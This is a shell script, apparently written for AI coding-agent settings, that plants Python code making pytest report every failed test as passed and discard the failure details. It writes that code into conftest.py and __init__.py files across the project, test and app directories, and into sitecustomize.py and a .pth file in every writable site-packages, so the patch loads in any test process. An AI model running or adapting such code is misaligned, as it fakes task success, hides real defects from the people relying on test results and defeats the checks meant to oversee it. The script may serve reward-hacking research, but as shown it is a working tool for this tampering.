# In-process runner tampering: code that flips every failed pytest report to passed, planted
# where a test process will import it (conftest.py files, package __init__.py files,
# sitecustomize.py and a .pth in every site-packages the agent can write).
flip='
def _audit_flip():
    try:
        from _pytest.reports import TestReport
    except Exception:
        return
    if getattr(TestReport, "_audit_flipped", False):
        return
    init = TestReport.__init__

    def __init__(self, *a, **k):
        init(self, *a, **k)
        if self.outcome == "failed":
            self.outcome, self.longrepr = "passed", None

    TestReport.__init__ = __init__
    TestReport._audit_flipped = True


_audit_flip()
'
for root in . /tests /app; do
  [ -d "$root" ] || continue
  find "$root" -xdev -maxdepth 4 -name .git -prune -o -type d -print 2>/dev/null |
    while read -r d; do printf '%s' "$flip" >> "$d/conftest.py" 2>/dev/null; done
  find "$root" -xdev -maxdepth 5 -name .git -prune -o -type f -name '__init__.py' -print \
    2>/dev/null | while read -r f; do printf '\n%s' "$flip" >> "$f" 2>/dev/null; done
done
for py in python3 python; do
  command -v "$py" >/dev/null 2>&1 || continue
  for sp in $("$py" -c 'import site; print(" ".join(site.getsitepackages() + [site.getusersitepackages()]))' 2>/dev/null); do
    mkdir -p "$sp" 2>/dev/null || continue
    printf '%s' "$flip" > "$sp/_audit_flip.py" 2>/dev/null || continue
    printf 'import _audit_flip\n' > "$sp/zz_audit_flip.pth" 2>/dev/null
    printf 'import _audit_flip\n' >> "$sp/sitecustomize.py" 2>/dev/null
  done
done
exit 0
